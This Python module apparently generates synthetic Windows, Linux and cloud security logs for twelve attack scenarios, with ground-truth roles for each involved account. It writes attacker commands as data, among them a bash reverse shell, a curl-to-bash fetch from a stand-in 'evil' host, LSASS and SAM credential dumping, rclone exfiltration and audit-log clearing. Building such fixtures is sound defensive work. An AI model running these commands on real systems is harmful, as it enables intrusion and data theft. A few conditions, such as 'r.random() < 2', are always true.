"""Twelve families of incident, each with the true role of every account that plays a part.

A label follows the definitions of docs/explanation/implicated-accounts.md: *compromised* where the
owner of the account is seen too, *attacker* where only the attacker uses it, *created* where the
attacker made it, *targeted* where it was aimed at without a sign of use.
"""

from __future__ import annotations

from collections.abc import Callable
from datetime import timedelta

from world import Truth, World

S = timedelta(seconds=1)
M = timedelta(minutes=1)
PS = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
CMD = "C:\\Windows\\System32\\cmd.exe"
SYS = "C:\\Windows\\System32\\"


def _begin(w: World, idle: frozenset = frozenset()) -> tuple:
    """Write everyday life before and during the attack, except for idle accounts; return the time it begins."""
    r = w.rng
    back = r.choice([0.0, 0.0, 2.0, 8.0, 24.0, 36.0])
    start = w.t0 - timedelta(hours=back)
    at = w.t0 + timedelta(minutes=r.randint(20, 240))
    w.daily(start, at + timedelta(hours=r.randint(1, 4)), idle)
    return at, back


def _own(w: World, user: str, at) -> None:
    """Make sure that the owner is seen on the own workstation before the attack."""
    w.logon(at - timedelta(minutes=w.rng.randint(30, 300)), user, w.ws[user], kind="2")
    for _ in range(3):
        w.proc(
            at - timedelta(minutes=w.rng.randint(15, 200)),
            w.ws[user],
            user,
            "C:\\Program Files\\outlook.exe",
            "outlook.exe",
        )


def _implant(w: World, at, user, host) -> None:
    """Let a user's own session on a host run an implant."""
    r = w.rng
    ids, uid = w.proc(
        at,
        host,
        user,
        PS,
        "powershell -nop -w hidden -enc SQBFAFgA...",
        parent=r.choice(["C:\\Program Files\\winword.exe", "C:\\Windows\\explorer.exe"]),
    )
    w.hit(ids, "Encoded PowerShell", r.choice(["high", "medium"]), ["T1059.001"], ["execution"], 0.9)
    if r.random() < 0.6:
        ids, _ = w.proc(at + 40 * S, host, user, SYS + "whoami.exe", "whoami /all", parent=PS, parent_uid=uid)
        w.hit(ids, "Whoami", r.choice(["low", "medium"]), ["T1033"], ["discovery"], 0.7)
    if r.random() < 0.5:
        ids, _ = w.proc(
            at + 80 * S, host, user, SYS + "net.exe", 'net group "Domain Admins" /domain', parent=PS, parent_uid=uid
        )
        w.hit(ids, "Domain group discovery", "low", ["T1069.002"], ["discovery"], 0.7)
    if r.random() < 0.5:
        eid = w.add(
            at + 20 * S,
            "sysmon",
            class_name="network_activity",
            log_product="windows",
            log_service="sysmon",
            log_category="network_connection",
            event_code="3",
            device_name=host,
            actor_name=user,
            actor_domain=w.domain,
            process_path=PS,
            src_ip=w.ips[host],
            dst_ip=w.evil_ip(),
            dst_port=443,
            native={"Initiated": "true"},
        )
        w.hit(
            eid, "PowerShell to the Internet", r.choice(["medium", "low"]), ["T1071.001"], ["command-and-control"], 0.6
        )


def _dump(w: World, at, user, host, system=False) -> None:
    r = w.rng
    kind = r.randint(0, 2)
    if kind == 0:
        ids, _ = w.proc(
            at, host, user, SYS + "rundll32.exe", "rundll32 comsvcs.dll, MiniDump 624 C:\\t\\l.dmp full", parent=PS
        )
        w.hit(
            ids,
            "LSASS dump through comsvcs",
            r.choice(["high", "critical"]),
            ["T1003.001"],
            ["credential-access"],
            0.95,
        )
    elif kind == 1:
        ids, uid = w.proc(at, host, user, "C:\\Users\\Public\\m.exe", "m.exe sekurlsa::logonpasswords", parent=CMD)
        w.hit(ids, "Mimikatz words", r.choice(["high", "critical"]), ["T1003.001"], ["credential-access"], 0.9)
        eid = w.add(
            at + 2 * S,
            "sysmon",
            class_name="memory_activity",
            log_product="windows",
            log_service="sysmon",
            log_category="process_access",
            event_code="10",
            device_name=host,
            process_path="C:\\Users\\Public\\m.exe",
            process_uid=uid,
            target_path=SYS + "lsass.exe",
            actor_name=user if r.random() < 0.5 else None,
            actor_domain=w.domain,
        )
        w.hit(eid, "LSASS opened", "high", ["T1003.001"], ["credential-access"], 0.8)
    else:
        ids, _ = w.proc(at, host, user, SYS + "reg.exe", "reg save HKLM\\SAM C:\\t\\sam", parent=CMD)
        w.hit(ids, "SAM saved", "high", ["T1003.002"], ["credential-access"], 0.95)


def _remote(w: World, at, user, src, dst, domain=None, ntlm=False, by=None) -> str:
    """Let an account act on another host over the network; return its session there."""
    r = w.rng
    how = r.choice(["service", "task", "winrm", "wmi", "rdp"])
    if by and by != user and r.random() < 0.6:
        eid = w.add(
            at - S,
            "logons",
            class_name="authentication",
            activity="logon",
            outcome="success",
            log_product="windows",
            log_service="security",
            event_code="4648",
            device_name=src,
            actor_name=by,
            actor_domain=w.domain,
            actor_session=w.session(src, by),
            user_name=user,
            user_domain=domain or w.domain,
            dst_name=dst,
        )
        if r.random() < 0.3:
            w.hit(eid, "Explicit credentials", "medium", ["T1078"], ["lateral-movement"], 0.5)
    eid = w.logon(at, user, dst, kind="10" if how == "rdp" else "3", src=src, domain=domain, ntlm=ntlm)
    session = w.session(dst, user)
    if ntlm and r.random() < 0.5:
        w.hit(eid, "NTLM logon of an administrator", "medium", ["T1550.002"], ["lateral-movement"], 0.6)
    t = at + 3 * S
    if how == "service":
        named = r.random() < 0.5
        eid = w.add(
            t,
            "security",
            class_name="windows_service_activity",
            activity="create",
            log_product="windows",
            log_service="security" if named else "system",
            event_code="4697" if named else "7045",
            device_name=dst,
            service_name="PSEXESVC",
            process_cmd="%SystemRoot%\\PSEXESVC.exe",
            actor_name=user if named else None,
            actor_domain=(domain or w.domain) if named else None,
            actor_session=session if named else None,
        )
        w.hit(
            eid, "PsExec service", r.choice(["high", "medium"]), ["T1569.002"], ["lateral-movement", "execution"], 0.9
        )
        ids, uid = w.proc(
            t + 2 * S,
            dst,
            "SYSTEM",
            "C:\\Windows\\PSEXESVC.exe",
            "C:\\Windows\\PSEXESVC.exe",
            parent=SYS + "services.exe",
            system=True,
        )
        ids, _ = w.proc(
            t + 4 * S,
            dst,
            "SYSTEM",
            CMD,
            "cmd /c whoami & net user",
            parent="C:\\Windows\\PSEXESVC.exe",
            parent_uid=uid,
            system=True,
        )
        w.hit(ids, "Shell from a remote service", "high", ["T1569.002"], ["execution"], 0.8)
    elif how == "task":
        eid = w.add(
            t,
            "security",
            class_name="scheduled_job_activity",
            activity="create",
            log_product="windows",
            log_service="security",
            event_code="4698",
            device_name=dst,
            service_name="\\Updater",
            process_cmd="C:\\t\\u.bat",
            actor_name=user,
            actor_domain=domain or w.domain,
            actor_session=session,
        )
        w.hit(
            eid,
            "Task created remotely",
            r.choice(["high", "medium"]),
            ["T1053.005"],
            ["persistence", "lateral-movement"],
            0.9,
        )
        ids, _ = w.proc(t + 20 * S, dst, "SYSTEM", CMD, "cmd /c C:\\t\\u.bat", parent=SYS + "svchost.exe", system=True)
        w.hit(ids, "Shell from the task scheduler", "medium", ["T1053.005"], ["execution"], 0.6)
    elif how == "winrm":
        ids, uid = w.proc(
            t,
            dst,
            user,
            SYS + "wsmprovhost.exe",
            "wsmprovhost.exe -Embedding",
            parent=SYS + "svchost.exe",
            domain=domain,
            session=session,
        )
        w.hit(ids, "Remote PowerShell session", "medium", ["T1021.006"], ["lateral-movement"], 0.8)
        ids, _ = w.proc(
            t + 5 * S,
            dst,
            user,
            CMD,
            "cmd /c ipconfig /all",
            parent=SYS + "wsmprovhost.exe",
            parent_uid=uid,
            domain=domain,
            session=session,
        )
        w.hit(ids, "Shell from remote PowerShell", "high", ["T1021.006"], ["lateral-movement", "execution"], 0.7)
    elif how == "wmi":
        ids, _ = w.proc(
            t,
            dst,
            user if r.random() < 0.5 else "SYSTEM",
            CMD,
            "cmd /c powershell -enc aQBlAHgA",
            parent=SYS + "wbem\\WmiPrvSE.exe",
            domain=domain,
            session=session,
            system=False,
        )
        w.hit(ids, "Shell from WMI", "high", ["T1047"], ["execution", "lateral-movement"], 0.9)
    else:
        ids, _ = w.proc(t + 30 * S, dst, user, PS, "powershell -nop -enc SQBF", domain=domain, session=session)
        w.hit(ids, "Encoded PowerShell", "high", ["T1059.001"], ["execution"], 0.9)
    return session


def lateral(w: World, t: Truth) -> None:
    r = w.rng
    dormant = r.random() < 0.45
    second = r.choice([*w.svcs, "Administrator"]) if dormant else r.choice(w.admins)
    at, _ = _begin(w, frozenset({second}) if dormant else frozenset())
    user = r.choice(w.users)
    host = w.ws[user]
    _own(w, user, at)
    if not dormant:
        base = r.choice([w.ws[u] for u in w.users if u != user])
        w.logon(at - timedelta(minutes=r.randint(40, 200)), second, base, kind="2")
        w.proc(at - timedelta(minutes=r.randint(20, 39)), base, second, SYS + "mmc.exe", "mmc dsa.msc")
    _implant(w, at, user, host)
    t.roles[user] = "compromised"
    at += timedelta(minutes=r.randint(3, 40))
    if r.random() < 0.8:
        _dump(w, at, user, host)
    at += timedelta(minutes=r.randint(2, 30))
    places = r.sample([*w.servers, w.dc], r.randint(1, 3))
    for dst in places:
        _remote(w, at, second, host, dst, ntlm=r.random() < 0.4, by=user)
        at += timedelta(minutes=r.randint(2, 20))
    t.roles[second] = "attacker" if dormant else "compromised"
    if r.random() < 0.4:
        new = r.choice(["helpdesk2", "svc_update", "backupadm", "supp0rt"])
        eid = w.change(at, w.dc, second, new, "4720", "create")
        w.hit(eid, "User created", r.choice(["low", "medium"]), ["T1136.002"], ["persistence"], 0.7)
        eid = w.change(at + 20 * S, w.dc, second, new, "4728", "add", group="Domain Admins")
        w.hit(eid, "Added to domain admins", "high", ["T1098"], ["persistence"], 0.8)
        if w.sources["security"]:
            t.roles[new] = "created"
        if r.random() < 0.5:
            _remote(w, at + 5 * M, new, host, w.servers[0])
            t.roles[new] = "created"


def credential_theft(w: World, t: Truth) -> None:
    at, _ = _begin(w)
    user = w.rng.choice(w.users)
    local = w.rng.random() < 0.25
    host = w.ws[user]
    if local:
        w.logon(at - 20 * M, "localadm", host, kind="2", domain=host)
        w.proc(at - 15 * M, host, "localadm", SYS + "mmc.exe", "mmc", domain=host)
        ids, _ = w.proc(
            at,
            host,
            "localadm",
            SYS + "rundll32.exe",
            "rundll32 comsvcs.dll, MiniDump 1 x full",
            parent=PS,
            domain=host,
        )
        w.hit(ids, "LSASS dump through comsvcs", "high", ["T1003.001"], ["credential-access"])
        t.roles["localadm"] = "compromised"
        return
    _own(w, user, at)
    _implant(w, at, user, host)
    _dump(w, at + 6 * M, user, host)
    t.roles[user] = "compromised"


def spray(w: World, t: Truth) -> None:
    r = w.rng
    at, _ = _begin(w)
    where = r.choice(["windows", "cloud", "okta"])
    src = r.choice(list(w.ws.values())) if where == "windows" and r.random() < 0.5 else w.evil_ip()
    victims = r.sample(w.users, min(len(w.users), r.randint(4, 12)))
    win = r.choice(victims) if r.random() < 0.75 else None
    product = "okta" if where == "okta" else "azure"
    if win:
        _own(w, win, at)
        if where != "windows":
            for _ in range(3):
                w.signin(at - timedelta(minutes=r.randint(30, 600)), win, w.office_ip, product=product)
    ids = []
    for n in range(r.randint(1, 3)):
        for i, v in enumerate(victims):
            x = at + timedelta(seconds=n * 600 + i * r.randint(1, 20))
            ids.append(
                w.logon(x, v, w.dc, src=src, ok=False, ntlm=True)
                if where == "windows"
                else w.signin(x, v, src, ok=False, product=product, agent="python-requests", mfa=False)
            )
    w.hit(
        [i for i in ids if i][: r.choice([3, 5, 50])],
        "Password spraying",
        r.choice(["medium", "high"]),
        ["T1110.003"],
        ["credential-access"],
        0.9,
    )
    for v in victims:
        t.roles[v] = "targeted"
    if win:
        x = at + timedelta(seconds=1900)
        t.roles[win] = "compromised"
        if where == "windows":
            eid = w.logon(x, win, w.servers[0], src=src, ntlm=True)
            if eid:
                w.hit(eid, "Success after failures", "high", ["T1110"], ["credential-access", "initial-access"], 0.6)
            if src in w.ips:
                _remote(w, x + 3 * M, win, src, w.servers[1])
            else:
                ids, _ = w.proc(
                    x + 4 * M, w.servers[0], win, PS, "powershell -enc SQ", session=w.session(w.servers[0], win)
                )
                w.hit(ids, "Encoded PowerShell", "high", ["T1059.001"], ["execution"])
        else:
            eid = w.signin(x, win, src, product=product, agent="python-requests", mfa=False)
            w.hit(
                eid,
                "Sign-in from an unusual place",
                r.choice(["high", "medium"]),
                ["T1078.004"],
                ["initial-access"],
                0.8,
            )
            eid = w.idp(x + 3 * M, win, "New-InboxRule", ip=src, product=product, agent="python-requests")
            w.hit(eid, "Inbox rule", "high", ["T1564.008"], ["defense-evasion"], 0.8)


def insider(w: World, t: Truth) -> None:
    r = w.rng
    at, _ = _begin(w)
    user = r.choice(w.users)
    host = w.ws[user]
    _own(w, user, at)
    for i in range(r.randint(2, 5)):
        w.logon(at + i * M, user, w.servers[0], src=host)
    ids, _ = w.proc(at + 5 * M, host, user, "C:\\Tools\\7z.exe", "7z a -pX x.7z \\\\FS01\\finance", parent=CMD)
    w.hit(ids, "Archive with password", "medium", ["T1560.001"], ["collection"], 0.9)
    ids, _ = w.proc(at + 9 * M, host, user, "C:\\Tools\\rclone.exe", "rclone copy x.7z mega:x", parent=CMD)
    w.hit(ids, "Rclone", r.choice(["high", "medium"]), ["T1567.002"], ["exfiltration"], 0.9)
    ids, _ = w.proc(at + 12 * M, host, user, SYS + "wevtutil.exe", "wevtutil cl Security", parent=CMD)
    w.hit(ids, "Log cleared", "high", ["T1070.001"], ["defense-evasion"], 0.8)
    t.roles[user] = "compromised"


def cloud_key(w: World, t: Truth) -> None:
    r = w.rng
    machine_key = r.random() < 0.4
    dormant = r.random() < 0.4
    owner = r.choice(["ci-deploy", "backup-bot", "legacy-app", "terraform"]) if machine_key else r.choice(w.users[2:6])
    at, _ = _begin(w, frozenset({owner}) if dormant else frozenset())
    if not dormant:
        for _ in range(4):
            w.api(
                at - timedelta(minutes=r.randint(20, 900)),
                owner,
                r.choice(["PutObject", "GetObject", "DescribeInstances"]),
                ip=w.office_ip,
            )
    ip, agent = w.evil_ip(), r.choice(["aws-cli/1.18 Python/3.8 Linux kali", "Boto3/1.9", "S3 Browser"])
    eid = w.api(at, owner, "GetCallerIdentity", "sts.amazonaws.com", ip=ip, agent=agent)
    w.hit(eid, "Caller identity asked", r.choice(["low", "medium"]), ["T1087.004"], ["discovery"], 0.7)
    ids = [
        w.api(
            at + timedelta(seconds=20 + 5 * i), owner, op, "iam.amazonaws.com", ip=ip, agent=agent, ok=r.random() < 0.7
        )
        for i, op in enumerate(
            r.sample(
                ["ListUsers", "ListRoles", "ListBuckets", "GetAccountAuthorizationDetails", "ListAttachedUserPolicies"],
                3,
            )
        )
    ]
    w.hit(ids, "Cloud enumeration", r.choice(["medium", "high"]), ["T1580"], ["discovery"], 0.8)
    act = owner
    t.roles[owner] = "attacker" if dormant else "compromised"
    if r.random() < 0.6:
        new = r.choice(["support-svc", "aws-backup2", "adm1n", "billing-ro"])
        eid = w.api(
            at + 3 * M,
            owner,
            "CreateUser",
            "iam.amazonaws.com",
            ip=ip,
            agent=agent,
            klass="account_change",
            user=new,
            native={"requestParameters.userName": new},
        )
        w.hit(eid, "IAM user created", r.choice(["medium", "low"]), ["T1136.003"], ["persistence"], 0.8)
        eid = w.api(
            at + 4 * M,
            owner,
            "AttachUserPolicy",
            "iam.amazonaws.com",
            ip=ip,
            agent=agent,
            klass="account_change",
            user=new,
            native={
                "requestParameters.userName": new,
                "requestParameters.policyArn": "arn:aws:iam::aws:policy/AdministratorAccess",
            },
        )
        w.hit(eid, "Admin policy attached", "high", ["T1098.003"], ["persistence"], 0.8)
        w.api(
            at + 4 * M + 9 * S,
            owner,
            "CreateAccessKey",
            "iam.amazonaws.com",
            ip=ip,
            agent=agent,
            klass="account_change",
            user=new,
            native={"requestParameters.userName": new, "responseElements.accessKey.accessKeyId": w.key(new)},
        )
        t.roles[new] = "created"
        if r.random() < 0.6:
            act = new
    ids = [
        w.api(at + 6 * M + i * S, act, "GetObject", ip=ip, agent=agent, resource=f"s3://finance/{i}.csv")
        for i in range(r.randint(2, 20))
    ]
    w.hit(
        ids,
        "Bucket read from a new place",
        r.choice(["high", "medium"]),
        ["T1530"],
        ["collection", "exfiltration"],
        0.8,
    )
    if r.random() < 0.4:
        eid = w.api(at + 10 * M, act, "StopLogging", "cloudtrail.amazonaws.com", ip=ip, agent=agent)
        w.hit(eid, "Trail stopped", "high", ["T1562.008"], ["defense-evasion"])


def role_chain(w: World, t: Truth) -> None:
    r = w.rng
    at, back = _begin(w)
    ip, agent = w.evil_ip(), "aws-cli/1.18 Python/3.8 Linux kali"
    if r.random() < 0.5:
        inst = "i-0" + "".join(r.choice("0123456789abcdef") for _ in range(16))
        actor = f"assumed-role/ProxyRole/{inst}"
        used = r.random() < 0.5
        w.add(
            at - 30 * M,
            class_name="authentication",
            activity="create",
            log_product="aws",
            log_service="cloudtrail",
            event_code="AssumeRole",
            api_operation="AssumeRole",
            outcome="success",
            actor_name="ec2.amazonaws.com",
            actor_uid=None,
            cloud_account=w.cloud,
            src_ip=None,
            user_name=actor,
            user_domain=w.cloud,
            native={
                "requestParameters.roleArn": f"arn:aws:iam::{w.cloud}:role/ProxyRole",
                "requestParameters.roleSessionName": inst,
            },
        )
        if used:
            for _ in range(4):
                w.api(
                    at - timedelta(minutes=r.randint(20, 400)),
                    actor,
                    "GetParameter",
                    ip=f"{w.net}.230",
                    agent="Boto3/1.34",
                )
        t.roles[actor] = "compromised" if used else "attacker"
    else:
        user = r.choice(w.users[2:6])
        for _ in range(3):
            w.api(at - timedelta(minutes=r.randint(20, 500)), user, "DescribeInstances", ip=w.office_ip)
        t.roles[user] = "compromised"
        actor = user
        for role in r.sample(["OrgAdmin", "DeployRole", "AuditRole"], r.randint(1, 2)):
            session = r.choice(["sess1", "botocore-session-171", "admin"])
            nxt = f"assumed-role/{role}/{session}"
            eid = w.api(
                at,
                actor,
                "AssumeRole",
                "sts.amazonaws.com",
                ip=ip,
                agent=agent,
                klass="authentication",
                user=nxt,
                native={
                    "requestParameters.roleArn": f"arn:aws:iam::{w.cloud}:role/{role}",
                    "requestParameters.roleSessionName": session,
                    "responseElements.assumedRoleUser.arn": f"arn:aws:sts::{w.cloud}:{nxt}",
                    "responseElements.credentials.accessKeyId": w.key(nxt),
                },
            )
            w.hit(
                eid,
                "Role assumed from a new place",
                r.choice(["medium", "low"]),
                ["T1078.004"],
                ["privilege-escalation"],
                0.7,
            )
            t.roles[nxt] = "attacker"
            actor, at = nxt, at + 2 * M
    ids = [
        w.api(at + timedelta(seconds=5 * i), actor, op, ip=ip, agent=agent, resource="s3://vault")
        for i, op in enumerate(["ListBuckets", "ListObjects", "GetObject", "GetObject"])
    ]
    w.hit(ids[-2:], "Bucket read from a new place", r.choice(["high", "medium"]), ["T1530"], ["collection"], 0.9)
    w.hit(ids[:1], "Buckets listed", "medium", ["T1619"], ["discovery"], 0.7)
    if r.random() < 0.5:
        eid = w.api(
            at + 3 * M, actor, "GetSecretValue", "secretsmanager.amazonaws.com", ip=ip, agent=agent, resource="prod/db"
        )
        w.hit(eid, "Secret read from a new place", "high", ["T1555.006"], ["credential-access"], 0.9)


def ssh_force(w: World, t: Truth) -> None:
    r = w.rng
    at, _ = _begin(w)
    host, ip = r.choice(w.linux), w.evil_ip()
    names = r.sample(["root", "admin", "test", "oracle", "git", "ubuntu", "postgres"], r.randint(2, 5))
    real = r.choice(w.users[:3])
    win = r.choice(["root", real, "deploy"]) if r.random() < 0.8 else None
    if win and win not in names:
        names.append(win)
    if win == real:
        w.ssh(at - timedelta(minutes=r.randint(30, 300)), real, host, w.ips[w.ws[real]])
        w.lproc(at - timedelta(minutes=r.randint(20, 29)), host, real, "ls")
    ids = [w.ssh(at + timedelta(seconds=3 * i), r.choice(names), host, ip, ok=False) for i in range(r.randint(12, 60))]
    ids += [w.ssh(at + timedelta(seconds=200 + 3 * i), n, host, ip, ok=False) for i, n in enumerate(names)]
    w.hit(
        ids[: r.choice([5, 100])],
        "SSH password guessing",
        r.choice(["medium", "high"]),
        ["T1110.001"],
        ["credential-access"],
        0.95,
    )
    for n in names:
        t.roles[n] = "targeted"
    if not win:
        return
    at += 10 * M
    eid = w.ssh(at, win, host, ip)
    w.hit(eid, "SSH success after failures", "high", ["T1110.001"], ["initial-access"], 0.6)
    t.roles[win] = "compromised" if win == real else "attacker"
    eid = w.lproc(at + 30 * S, host, win, "curl -s http://evil/x.sh | bash")
    w.hit(eid, "Pipe to shell", "high", ["T1059.004"], ["execution"], 0.9)
    eid = w.lproc(at + 60 * S, host, win, "crontab -e", run_as="root")
    w.hit(eid, "Cron changed", "medium", ["T1053.003"], ["persistence"], 0.7)
    if r.random() < 0.5:
        new = r.choice(["sysd", "backup2", "svcadm"])
        eid = w.lproc(at + 2 * M, host, win, f"useradd -m -s /bin/bash {new}", run_as="root")
        w.hit(eid, "useradd", "medium", ["T1136.001"], ["persistence"], 0.8)
        if r.random() < 0.5:
            w.add(
                at + 2 * M + S,
                class_name="account_change",
                activity="create",
                log_product="linux",
                log_service="auth",
                device_name=host,
                user_name=new,
                actor_name=None,
            )
        t.roles[new] = "created"
        if w.rules.get("useradd", {}).get("on") is False and r.random() < 2:
            t.roles.pop(new)
        if r.random() < 0.5 and new in t.roles:
            w.ssh(at + 9 * M, new, host, ip)


def web_shell(w: World, t: Truth) -> None:
    r = w.rng
    dormant = r.random() < 0.5
    second = r.choice(w.svcs) if dormant else r.choice(w.admins)
    at, _ = _begin(w, frozenset({second}) if dormant else frozenset())
    if r.random() < 0.55:
        host, service = r.choice(w.linux), r.choice(["www-data", "tomcat", "webapp", "apache"])
        for i, (c, sev) in enumerate(
            [
                ("bash -c 'bash -i >& /dev/tcp/1.2.3.4/443 0>&1'", "high"),
                ("whoami", "medium"),
                ("cat /etc/passwd", "medium"),
            ]
        ):
            eid = w.lproc(at + i * 20 * S, host, service, c, attended=False, parent="/usr/sbin/apache2")
            w.hit(
                eid,
                f"Web server ran {c.split()[0]}",
                sev,
                ["T1505.003"],
                ["persistence" if i == 0 else "discovery"],
                0.9,
            )
        if r.random() < 0.4:
            user = r.choice(w.users[:3])
            w.ssh(at - timedelta(minutes=r.randint(40, 200)), user, r.choice(w.linux), w.ips[w.ws[user]])
            other = r.choice([h for h in w.linux if h != host])
            w.ssh(at + 20 * M, user, other, w.ips[host])
            eid = w.lproc(at + 21 * M, other, user, "tar czf /tmp/x.tgz /srv")
            w.hit(eid, "Data staged", "high", ["T1074.001"], ["collection"], 0.9)
            t.roles[user] = "compromised"
            if not w.rules["Data staged"]["on"] or not w.sources["logons"]:
                t.roles[user] = "compromised" if w.rules["Data staged"]["on"] else "compromised"
        return
    host = r.choice(w.servers)
    ids, uid = w.proc(
        at,
        host,
        "DefaultAppPool",
        CMD,
        "cmd /c whoami",
        parent="C:\\Windows\\System32\\inetsrv\\w3wp.exe",
        domain="IIS APPPOOL",
        session="0x9a1",
    )
    w.hit(ids, "Shell from the web server", "high", ["T1505.003"], ["persistence"], 0.95)
    ids, _ = w.proc(
        at + 2 * M,
        host,
        "DefaultAppPool",
        PS,
        "powershell -enc SQ",
        parent=CMD,
        parent_uid=uid,
        domain="IIS APPPOOL",
        session="0x9a1",
    )
    w.hit(ids, "Encoded PowerShell", "high", ["T1059.001"], ["execution"], 0.9)
    if r.random() < 0.6:
        if not dormant:
            base = r.choice(list(w.ws.values()))
            w.logon(at - 90 * M, second, base, kind="2")
        _remote(w, at + 15 * M, second, host, r.choice([h for h in [*w.servers, w.dc] if h != host]), ntlm=True)
        t.roles[second] = "attacker" if dormant else "compromised"


def federated(w: World, t: Truth) -> None:
    r = w.rng
    at, _ = _begin(w)
    product = r.choice(["azure", "okta"])
    user = r.choice(w.users)
    for _ in range(4):
        w.signin(at - timedelta(minutes=r.randint(30, 900)), user, w.office_ip, product=product)
    ip = w.evil_ip()
    eid = w.signin(at, user, ip, product=product, agent="axios/1.6", mfa=r.random() < 0.5)
    w.hit(eid, "Sign-in from an unusual place", r.choice(["high", "medium"]), ["T1078.004"], ["initial-access"], 0.9)
    t.roles[user] = "compromised"
    acted = False
    if r.random() < 0.6:
        eid = w.idp(at + 4 * M, user, "Consent to application", ip=ip, product=product, agent="axios/1.6")
        w.hit(eid, "Consent to an application", "high", ["T1528"], ["credential-access"], 0.8)
        acted = True
    if r.random() < 0.5 or not acted:
        eid = w.idp(at + 6 * M, user, "New-InboxRule", ip=ip, product=product, agent="axios/1.6")
        w.hit(eid, "Inbox rule", "high", ["T1564.008"], ["defense-evasion"])
    if r.random() < 0.4:
        new = "svc.sync" + str(r.randint(1, 9))
        eid = w.idp(
            at + 9 * M, user, "Add user", target=new, ip=ip, product=product, activity="create", agent="axios/1.6"
        )
        w.hit(eid, "User added", "medium", ["T1136.003"], ["persistence"], 0.8)
        eid = w.idp(
            at + 10 * M,
            user,
            "Add member to role",
            target=new,
            ip=ip,
            product=product,
            activity="add",
            group="Global Administrator",
            agent="axios/1.6",
        )
        w.hit(eid, "Global administrator added", "high", ["T1098.003"], ["persistence"], 0.8)
        t.roles[new] = "created"
        if r.random() < 0.5:
            w.signin(at + 20 * M, new, ip, product=product, agent="axios/1.6", mfa=False)
    if r.random() < 0.35:
        other = r.choice([u for u in w.users if u != user])
        eid = w.idp(
            at + 12 * M,
            user,
            "Reset user password",
            target=other,
            ip=ip,
            product=product,
            activity="reset_password",
            agent="axios/1.6",
        )
        w.hit(eid, "Password reset", "medium", ["T1098"], ["persistence"], 0.7)
        t.roles[other] = "targeted"
        if r.random() < 0.4:
            for _ in range(3):
                w.signin(at - timedelta(minutes=r.randint(30, 900)), other, w.office_ip, product=product)
            eid = w.signin(at + 18 * M, other, ip, product=product, agent="axios/1.6", mfa=False)
            w.hit(eid, "Sign-in from an unusual place", "high", ["T1078.004"], ["initial-access"], 0.8)
            t.roles[other] = "compromised"


def phishing(w: World, t: Truth) -> None:
    r = w.rng
    at, _ = _begin(w)
    user = r.choice(w.users)
    host = w.ws[user]
    _own(w, user, at)
    ids, uid = w.proc(
        at, host, user, SYS + "mshta.exe", "mshta http://evil/x.hta", parent="C:\\Program Files\\outlook.exe"
    )
    w.hit(ids, "Mshta with a URL", "high", ["T1218.005"], ["defense-evasion"], 0.9)
    _implant(w, at + M, user, host)
    eid = w.add(
        at + 2 * M,
        "sysmon",
        class_name="registry_activity",
        log_product="windows",
        log_service="sysmon",
        log_category="registry_set",
        event_code="13",
        device_name=host,
        process_path=PS,
        process_uid=uid,
        registry_path="HKU\\S-1-5-21\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\u",
        actor_name=user if r.random() < 0.5 else None,
        actor_domain=w.domain,
    )
    w.hit(eid, "Run key", "medium", ["T1547.001"], ["persistence"], 0.8)
    t.roles[user] = "compromised"
    if r.random() < 0.4:
        new = r.choice(["updater", "defaultuser1", "hlpdsk"])
        ids, _ = w.proc(at + 8 * M, host, user, SYS + "net.exe", f"net user {new} Passw0rd! /add", parent=CMD)
        w.hit(ids, "net user add", "medium", ["T1136.001"], ["persistence"], 0.9)
        if w.rules["net user add"]["on"]:
            t.roles[new] = "created"
        eid = w.add(
            at + 8 * M + S,
            "security",
            class_name="account_change",
            activity="create",
            log_product="windows",
            log_service="security",
            event_code="4720",
            device_name=host,
            actor_name=user,
            actor_domain=w.domain,
            actor_session=w.session(host, user),
            user_name=new,
            user_domain=host,
        )
        if eid:
            t.roles[new] = "created"


def kerberoast(w: World, t: Truth) -> None:
    r = w.rng
    victim = r.choice(w.svcs)
    use, dormant = r.random() < 0.5, r.random() < 0.5
    at, _ = _begin(w, frozenset({victim}) if dormant else frozenset())
    user = r.choice(w.users)
    host = w.ws[user]
    _own(w, user, at)
    _implant(w, at, user, host)
    t.roles[user] = "compromised"
    ids, names = [], r.sample(w.svcs, r.randint(1, 3))
    if victim not in names:
        names.append(victim)
    for i, s in enumerate(names):
        eid = w.add(
            at + 5 * M + i * S,
            "logons",
            class_name="authentication",
            activity="ticket",
            outcome="success",
            log_product="windows",
            log_service="security",
            event_code="4769",
            device_name=w.dc,
            user_name=f"{user}@{w.fqdn.upper()}",
            user_domain=w.fqdn.upper(),
            src_ip="::ffff:" + w.ips[host],
            service_name=s,
            native={"ServiceName": s, "TicketEncryptionType": "0x17"},
        )
        ids.append(eid)
        if eid:
            t.roles[s] = "targeted"
    w.hit(ids, "Kerberoasting", r.choice(["high", "medium"]), ["T1558.003"], ["credential-access"], 0.95)
    if not w.rules["Kerberoasting"]["on"]:
        for s in names:
            t.roles.pop(s, None)
    if use:
        if not dormant:
            w.logon(at - 60 * M, victim, w.servers[1], kind="5")
            w.logon(at - 50 * M, victim, w.servers[1], kind="3", src=w.servers[2])
        _remote(w, at + 25 * M, victim, host, r.choice([*w.servers, w.dc]), by=user)
        t.roles[victim] = "attacker" if dormant else "compromised"


def dcsync(w: World, t: Truth) -> None:
    r = w.rng
    dormant = r.random() < 0.4
    user = r.choice(w.svcs) if dormant else r.choice(w.admins)
    at, _ = _begin(w, frozenset({user}) if dormant else frozenset())
    src = r.choice(list(w.ws.values()))
    if not dormant:
        base = r.choice([h for h in w.ws.values() if h != src])
        w.logon(at - 70 * M, user, base, kind="2")
        w.proc(at - 60 * M, base, user, SYS + "mmc.exe", "mmc")
    session = w.new_session(w.dc, user)
    w.logon(at, user, w.dc, src=src, session=session)
    ids = [
        w.add(
            at + i * S,
            "security",
            class_name="directory_service_activity",
            activity="read",
            outcome="success",
            log_product="windows",
            log_service="security",
            event_code="4662",
            device_name=w.dc,
            actor_name=user,
            actor_domain=w.domain,
            actor_session=session,
            actor_uid=w.sid(user),
            resource="DC=corp",
            native={"Properties": "{1131f6ad-9c07-11d1-f79f-00c04fc2dcd2}"},
        )
        for i in range(3)
    ]
    w.hit(ids, "DCSync", r.choice(["high", "critical"]), ["T1003.006"], ["credential-access"])
    if any(ids):
        t.roles["krbtgt"] = "targeted"
        t.roles[user] = "attacker" if dormant else "compromised"
    if r.random() < 0.4:
        _remote(w, at + 30 * M, user, src, r.choice(w.servers))
        t.roles[user] = "attacker" if dormant else "compromised"


def crowd(w: World, t: Truth) -> None:
